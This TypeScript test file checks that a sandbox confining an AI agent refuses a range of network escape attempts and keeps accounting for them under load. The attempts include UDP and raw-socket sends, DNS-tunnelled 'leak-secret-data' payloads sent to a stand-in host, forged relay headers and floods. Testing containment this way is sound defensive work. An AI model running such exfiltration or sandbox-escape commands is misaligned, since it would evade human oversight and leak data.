/**
 * Socket-level attempts (net session). Classes: `udp` (direct datagrams, v4/v6, QUIC, to the
 * host), `raw-socket` (raw, packet, ICMP ping sockets), `dns` (outside resolvers, tunnelling
 * through query names, TCP DNS), `forged-relay` (the relay's own header written by the agent),
 * `abstract-unix` (the shared network namespace's abstract sockets), `relay-work` and
 * `event-loss` (issue 9 classes 7 and 6: floods, run alone after the rest).
 */
import assert from "node:assert/strict";
import { type Attempt, needs, type Outcome } from "./_attempt.ts";
import { eventsWith, field, first, noWitness, refused, statusIn } from "./_judges.ts";
import type { Plan } from "./_world.ts";

const STATUS = `-w '\\nstatus=%{http_code}\\n'`;
const REFUSED_OR_FAILED =
  /^error (EPERM|ECONNREFUSED|EACCES|EPROTONOSUPPORT|EAFNOSUPPORT|EINVAL|ENETUNREACH)\b/;

function row(
  cls: string,
  name: string,
  sh: string,
  judge: Attempt["judge"],
  extra: Partial<Attempt> = {},
): Attempt {
  return { class: cls, name, session: "net", sh, judge, ...extra };
}

/** "leak-secret-data" in hex: a tunnelled payload in a query name. */
const PAYLOAD = "6c65616b2d7365637265742d64617461";

/** leash's DNS saw the query for a name carrying `tag`, refused it, and nothing left the host. */
function tunnelJudge(tag: string): Attempt["judge"] {
  return (o) => {
    assert.doesNotMatch(o.out, /^answer/m, o.out);
    noWitness(o, tag);
    const seen = eventsWith(o, tag).filter((e) => e.event === "dns.query");
    assert.ok(seen.length > 0, `leash's DNS never saw the query:\n${o.out}`);
    assert.ok(seen.every((e) => e.decision === "deny"), JSON.stringify(seen));
  };
}

/**
 * The query for a name leash pins was answered, and leash's DNS logged it: the outside resolver
 * the agent named (unreachable TEST-NET) never saw it, leash's did.
 */
function answeredByLeash(o: Outcome): void {
  assert.match(first(o), /^answer \["[0-9.]+"\]$/, o.out);
  assert.ok(o.events.some((e) => e.event === "dns.query" && e.host === "allowed.test"));
}

/** Denied opens the agent makes in one burst: the issue lost ~165,000 of 200,000. */
const OPENS = 200000;

/**
 * Every one of `n` denials that mention `needle` is either in the events log (by the layer that
 * logged most of them) or counted in a loss report (an event about drops or losses carrying a count, in a field or its message).
 */
function accounted(o: Outcome, needle: string, n: number): void {
  // Several layers may report the same denial: the best-reporting layer must account for all.
  const byLayer = new Map<string, number>();
  for (const e of o.events) {
    if (!JSON.stringify(e).includes(needle)) continue;
    byLayer.set(String(e.layer), (byLayer.get(String(e.layer)) ?? 0) + 1);
  }
  const logged = Math.max(0, ...byLayer.values());
  const reported = o.events.filter((e) => /drop|loss|lost/i.test(String(e.event)))
    .map((e) => {
      const fields = Object.entries(e).filter(([k, v]) =>
        /drop|lost|loss/i.test(k) && typeof v === "number"
      );
      if (fields.length > 0) return fields.reduce((sum, [, v]) => sum + (v as number), 0);
      return Number(/(\d+)/.exec(String(e.message ?? ""))?.[1] ?? 0);
    })
    .reduce((a, b) => a + b, 0);
  assert.ok(
    logged + reported >= n,
    `${n} denials: ${
      JSON.stringify(Object.fromEntries(byLayer))
    } logged, ${reported} reported lost`,
  );
}

/**
 * The relay's reports about `subject` (its events whose message matches `about`) stay few
 * after thousands of refusals: bounded and counted, not one queued message per refusal.
 */
function boundedReports(o: Outcome, about: RegExp, subject: string): void {
  const reports = o.events.filter((e) =>
    /relay/.test(String(e.event)) && about.test(String(e.message ?? ""))
  );
  assert.ok(reports.length < 1000, `${reports.length} relay events for ${subject}: unbounded`);
}

/** The lines after a flood: a request to allowed.test still gets through. */
function stillServes(o: Outcome, tag: string): void {
  statusIn(o, [200]);
  assert.equal(o.upstreams.get("allowed.test")!.hits(tag).length, 1, o.out);
}

/** Shell for base64 of a forged relay header line naming `dst`, then `rest` (printf escapes). */
function forged(dst: string, rest: string, eol = "\\n"): string {
  const line = `{"v":1,"kind":"transparent","dst":"${dst}","src":"127.0.0.1:1","relay_port":15001}`;
  return `"$(printf \"%s${eol}${rest}\" '${line}' | base64 -w0)"`;
}

/** The socket-level attempts. */
export function socketAttempts(plan: Plan): Attempt[] {
  const hostUdp = plan.hostAddresses.filter((a) => !a.linkLocal).map((a) =>
    row(
      "udp",
      `udp-host-${a.iface}-v${a.family}`.toLowerCase().replace(/[^a-z0-9-]/g, "-"),
      `adv udp ${a.address} $WP $TAG`,
      (o) => {
        refused(o);
        noWitness(o, `udp-host-${a.iface}-v${a.family}`.toLowerCase());
      },
    )
  );
  const lan = plan.lan4?.address ?? "127.0.0.1";
  const wp = plan.vars.WP!;
  return [
    row("udp", "udp-outside-v4", "netprobe udp-send 198.51.100.1 9999", (o) => refused(o)),
    row("udp", "udp-outside-v6", "adv udp 2001:db8::7 9999 $TAG", (o) => refused(o)),
    row("udp", "udp-quic-443", "adv udp 198.51.100.1 443 $TAG", (o) => refused(o)),
    ...hostUdp,
    row("raw-socket", "raw-icmp", "netprobe raw", (o) => refused(o)),
    row("raw-socket", "raw-packet", "netprobe packet", (o) => refused(o)),
    row("raw-socket", "raw-ipproto", "advprobe rawip", (o) => refused(o)),
    row("raw-socket", "raw-icmp6", "advprobe raw6", (o) => refused(o)),
    row(
      "raw-socket",
      "ping-socket-v4",
      "advprobe icmp 198.51.100.1",
      (o) => refused(o, REFUSED_OR_FAILED),
    ),
    row(
      "raw-socket",
      "ping-socket-v6",
      "advprobe icmp 2001:db8::7",
      (o) => refused(o, REFUSED_OR_FAILED),
    ),
    row(
      "raw-socket",
      "ping-socket-host",
      `advprobe icmp ${lan}`,
      (o) => refused(o, REFUSED_OR_FAILED),
      needs(plan.lan4, "this host has no LAN IPv4 address"),
    ),
    row(
      "dns",
      "dns-outside-resolver-v4",
      "adv dnsvia 198.51.100.153 allowed.test A",
      answeredByLeash,
    ),
    row(
      "dns",
      "dns-outside-resolver-v6",
      "adv dnsvia 2001:db8::53 allowed.test A",
      answeredByLeash,
    ),
    row(
      "dns",
      "dns-host-resolver",
      `adv dnsvia ${lan} ${PAYLOAD}.$TAG.tunnel.example A`,
      tunnelJudge("dns-host-resolver"),
      needs(plan.lan4, "this host has no LAN IPv4 address"),
    ),
    row(
      "dns",
      "dns-tunnel-a",
      `adv dnsvia 198.51.100.153 ${PAYLOAD}.$TAG.tunnel.example A`,
      tunnelJudge("dns-tunnel-a"),
    ),
    row(
      "dns",
      "dns-tunnel-txt",
      `adv dnsvia 198.51.100.153 ${PAYLOAD}.$TAG.tunnel.example TXT`,
      tunnelJudge("dns-tunnel-txt"),
    ),
    row(
      "dns",
      "dns-tunnel-system-resolver",
      `getent hosts ${PAYLOAD}.$TAG.tunnel.example; echo "getent=$?"`,
      (o) => {
        assert.equal(field(o, "getent"), "2", o.out);
        tunnelJudge("dns-tunnel-system-resolver")(o);
      },
    ),
    row(
      "dns",
      "dns-tcp-outside",
      // A DNS-over-TCP query (length-prefixed) for a tunnel name.
      `adv raw 198.51.100.153 53 ADASNAEAAAEAAAAAAAAPZG5zLXRjcC1vdXRzaWRlBnR1bm5lbAdleGFtcGxlAAABAAE=`,
      (o) => refused(o),
    ),
    row(
      "forged-relay",
      "relay-forged-transparent",
      `adv raw 127.0.0.1 15001 ${forged(`${lan}:${wp}`, "$TAG\\n")}`,
      (o) => noWitness(o, "relay-forged-transparent"),
      needs(plan.lan4, "this host has no LAN IPv4 address"),
    ),
    row(
      "forged-relay",
      "relay-forged-transparent-v6",
      `adv raw ::1 15001 ${forged(`127.0.0.1:${wp}`, "$TAG\\n")}`,
      (o) => noWitness(o, "relay-forged-transparent-v6"),
    ),
    row(
      "forged-relay",
      "relay-forged-explicit",
      `adv raw 127.0.0.1 3128 ${
        forged("127.0.0.1:1", `GET /$TAG HTTP/1.1\\r\\nHost: 127.0.0.1:${wp}\\r\\n\\r\\n`, "\\r\\n")
      }`,
      (o) => noWitness(o, "relay-forged-explicit"),
    ),
    row(
      "forged-relay",
      "relay-forged-dns",
      "adv udp 127.0.0.1 15053 $TAG; adv udp ::1 15053 $TAG",
      (o) => noWitness(o, "relay-forged-dns"),
    ),
    row("abstract-unix", "abstract-sockets", "advprobe abstract", (o) => {
      assert.match(o.out, /^abstract names seen: \d+$/m, o.out);
      assert.doesNotMatch(o.out, /^ok connected/m, o.out);
    }),
    row(
      "relay-work",
      "flood-dns-relay",
      `adv flood-udp 127.0.0.1 15053 20000
curl -sS -m 10 ${STATUS} https://allowed.test:$PA/$TAG`,
      (o) => {
        stillServes(o, "flood-dns-relay");
        boundedReports(o, /DNS/i, "refused datagrams");
      },
      { serial: true },
    ),
    row(
      "relay-work",
      "flood-unnamed-tcp",
      `adv flood-tcp 198.51.100.201 80 500
curl -sS -m 10 ${STATUS} https://allowed.test:$PA/$TAG`,
      (o) => {
        assert.doesNotMatch(o.out, /"connected"/, o.out);
        stillServes(o, "flood-unnamed-tcp");
      },
      { serial: true },
    ),
    row(
      "relay-work",
      "flood-over-connection-limit",
      // More connections at once than the relay takes (4,096 at most); every one over the
      // limit is refused. Then all are let go and the session must serve again.
      `adv hold 192.0.2.1 $PA 6000
curl -sS -m 10 ${STATUS} https://allowed.test:$PA/$TAG`,
      (o) => {
        assert.match(o.out, /^hold open=\d+/, o.out);
        stillServes(o, "flood-over-connection-limit");
        boundedReports(o, /connection/i, "connections over the limit");
      },
      { serial: true },
    ),
    row(
      "event-loss",
      "flood-denied-dns-events",
      `adv flood-dns 5000 $TAG.tunnel.example`,
      (o) => accounted(o, ".flood-denied-dns-events.tunnel.example", 5000),
      { serial: true },
    ),
    row(
      "event-loss",
      "flood-denied-opens",
      // /srv is outside every directory the built-in policy lets the agent read.
      `adv flood-open /srv ${OPENS}`,
      (o) => {
        assert.match(o.out, new RegExp(`^flood-open \\{"EACCES":${OPENS}\\}`), o.out);
        accounted(o, '"path":"/srv"', OPENS);
      },
      { serial: true },
    ),
  ];
}
